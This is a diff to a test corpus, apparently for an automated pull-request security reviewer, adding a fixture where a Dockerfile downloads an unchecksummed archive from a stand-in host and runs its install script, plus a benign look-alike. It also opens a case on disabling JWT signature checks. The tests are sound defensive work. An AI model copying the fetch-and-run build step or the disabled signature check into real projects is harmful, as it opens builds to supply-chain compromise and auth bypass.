@@ -3411,6 +3411,45 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
   },
   {
+    id: 'attack-dockerfile-add-archive-install-script',
+    description:
+      'The tarball form of the ADD installer: a "pin the agent version" PR adds `ADD https://cdn.devtool-mirror.dev/agent-2.1.tar.gz /tmp/` and `RUN tar xzf … && /tmp/agent-2.1/install.sh`: no checksum, and the script inside the archive runs in the image build as `curl … | sh` would.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11040,
+        title: 'Pin the monitoring agent version',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM node:22-bookworm-slim', 'ADD https://cdn.devtool-mirror.dev/agent-2.1.tar.gz /tmp/', 'RUN tar xzf /tmp/agent-2.1.tar.gz -C /tmp \\', '    && /tmp/agent-2.1/install.sh --quiet \\', '    && rm -rf /tmp/agent-2.1*', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'benign-dockerfile-toolchain-tarball',
+    description: 'The look-alike: a maintainer installs Node from its release tarball (`ADD https://nodejs.org/dist/…tar.xz`, `tar -xJf … -C /usr/local`) and a COPY\'d entrypoint script, run by ENTRYPOINT: a toolchain unpacked and used, no script from the archive run.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11041,
+        title: 'build: take Node from its release tarball',
+        author: 'member',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM debian:bookworm-slim', 'ADD https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.xz /tmp/', 'RUN tar -xJf /tmp/node-v22.11.0-linux-x64.tar.xz -C /usr/local --strip-components=1 \\', '    && rm /tmp/node-v22.11.0-linux-x64.tar.xz && node --version', 'COPY docker-entrypoint.sh /usr/local/bin/', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'ENTRYPOINT ["docker-entrypoint.sh"]', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
+  },
+  {
     id: 'attack-jwt-signature-check-switched-off',
     description:
       'The auth-weakening PR of 2024-2026 write-ups: a first-time contributor\'s "fix token parsing for the mobile client" PR adds `options={"verify_signature": False}` to the API\'s jwt.decode, so any token anyone writes, with any user id, is accepted.',
